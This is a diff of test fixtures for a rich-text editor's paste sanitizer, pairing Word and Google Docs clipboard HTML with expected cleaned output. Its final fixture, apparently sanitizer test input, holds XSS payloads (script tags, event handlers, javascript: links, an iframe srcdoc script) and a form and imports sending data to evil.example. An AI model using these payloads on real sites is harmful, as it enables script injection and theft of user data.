@@ -1,6 +1,6 @@
-// What other programs put on the clipboard, as they do it: shortened where they repeat themselves.
+// HTML that other programs put on the clipboard (shortened), and the content the editor makes of it.
 
-/** Word for Windows: styles of its own, conditional comments, lists that are paragraphs, a picture on a disk. */
+/** Word for Windows: proprietary styles, conditional comments, lists made of paragraphs, a picture on a local disk. */
 export const word = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
 xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
 <head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document>
@@ -30,7 +30,7 @@ export const wordClean =
   '<table><tbody><tr><td>Grade</td><td>Price</td></tr></tbody></table>' +
   '<p><a href="https://example.org/oil" rel="noopener">a link</a></p>'
 
-/** Google Docs: a bold around everything that is not bold, styles for everything, links over its own page. */
+/** Google Docs: a `<b>` around text that is not bold, inline styles everywhere, links through a Google redirect. */
 export const googleDocs = `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1f2e3d4c-7fff-aaaa-bbbb-0123456789ab"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;margin-bottom:6pt;"><span style="font-size:16pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">At the mill</span></h2><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">Good oil </span><span style="font-size:11pt;font-family:Arial,sans-serif;font-weight:700;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">stings</span><span style="font-size:11pt;font-weight:400;white-space:pre-wrap;"> the </span><span style="font-size:11pt;font-weight:400;font-style:italic;text-decoration:none;white-space:pre-wrap;">throat</span><span style="font-weight:400;white-space:pre-wrap;">, CO</span><span style="font-size:0.6em;font-weight:400;vertical-align:sub;white-space:pre-wrap;">2</span><span style="font-weight:400;white-space:pre-wrap;"> and </span><a href="https://www.google.com/url?q=https://example.org/oil?a%3D1&amp;sa=D&amp;source=editors&amp;ust=1&amp;usg=AOv" style="text-decoration:none;"><span style="font-size:11pt;color:#1155cc;font-weight:400;text-decoration:underline;white-space:pre-wrap;">a link</span></a><span style="font-weight:400;white-space:pre-wrap;">.</span></p><br /><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;font-size:11pt;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Picual</span></p></li><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:circle;" aria-level="2"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">early</span></p></li></ul><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Koroneiki</span></p></li></ul></b><br class="Apple-interchange-newline">`
 
 export const googleDocsClean =
@@ -38,7 +38,7 @@ export const googleDocsClean =
   '<p>Good oil <strong>stings</strong> the <em>throat</em>, CO<sub>2</sub> and <a href="https://example.org/oil?a=1" rel="noopener">a link</a>.</p>' +
   '<ul><li>Picual<ul><li>early</li></ul></li><li>Koroneiki</li></ul>'
 
-/** Word in the browser: each item in a list of its own, headings by their role alone. */
+/** Word in the browser: a separate list for each item, headings marked only by `role`. */
 export const wordOnline = `<meta charset='utf-8'><div class="OutlineElement Ltr SCXW1 BCX0"><p class="Paragraph SCXW1" role="heading" aria-level="1" lang="EN-US">Harvest</p></div><div class="OutlineElement"><p role="heading" aria-level="3">Early</p></div>${[
   ['ul', 1, 'Picual'],
   ['ul', 2, 'early'],
@@ -58,7 +58,7 @@ export const wordOnlineClean =
   '<ul><li>Picual<ul><li>early<ol><li>very</li></ol></li></ul></li><li>Koroneiki</li></ul>' +
   '<p>Then</p><ol start="3"><li>third</li><li>fourth</li></ol>'
 
-/** Word for Windows: a list that goes on after another text, and a heading that is drawn with a bullet. */
+/** Word for Windows: a list that continues after a paragraph, and a heading with a bullet. */
 export const wordInterrupted = `<html xmlns:w="urn:schemas-microsoft-com:office:word"><body><h2 style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span>&nbsp; </span></span></span><![endif]>Steps</h2>
 <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>1.<span>&nbsp; </span></span></span><![endif]>Pick</p>
 <p class=MsoNormal>Wait.</p>
@@ -67,14 +67,14 @@ export const wordInterrupted = `<html xmlns:w="urn:schemas-microsoft-com:office:
 export const wordInterruptedClean =
   '<h2>Steps</h2><ol><li>Pick</li></ol><p>Wait.</p><ol start="2"><li>Press</li></ol>'
 
-/** Google Docs: a list of which only the deep part was copied. */
+/** Google Docs: only the nested items of a list were copied. */
 export const googleDocsDeep =
   '<b style="font-weight:normal;" id="docs-internal-guid-1"><ol><ol><ol><li dir="ltr" aria-level="3"><p dir="ltr" role="presentation"><span>deep</span></p></li></ol><li dir="ltr" aria-level="2"><p dir="ltr"><span>less</span></p></li></ol></ol></b>'
 
 export const googleDocsDeepClean = '<ol><li>deep</li><li>less</li></ol>'
 
-/** A page that wants more than to be read. */
-export const hostile = `<p onclick="steal()">Words<script>steal()</script> <img src=x onerror="steal()"><a href="javascript:steal()">click</a>
+/** HTML with scripts, event handlers, frames, forms and external resources. */
+export const hostileHtml = `<p onclick="steal()">Words<script>steal()</script> <img src=x onerror="steal()"><a href="javascript:steal()">click</a>
 <a href="java&#10;script:steal()">here</a> <a href="data:text/html,x">there</a></p><iframe src="https://evil.example/"></iframe>
 <iframe srcdoc="<script>steal()</script>"></iframe><svg onload="steal()"><a xlink:href="javascript:steal()"><text>x</text></a></svg>
 <form action="https://evil.example/"><input value="secret"><button>Send</button></form><style>@import url(https://evil.example/x.css)</style>
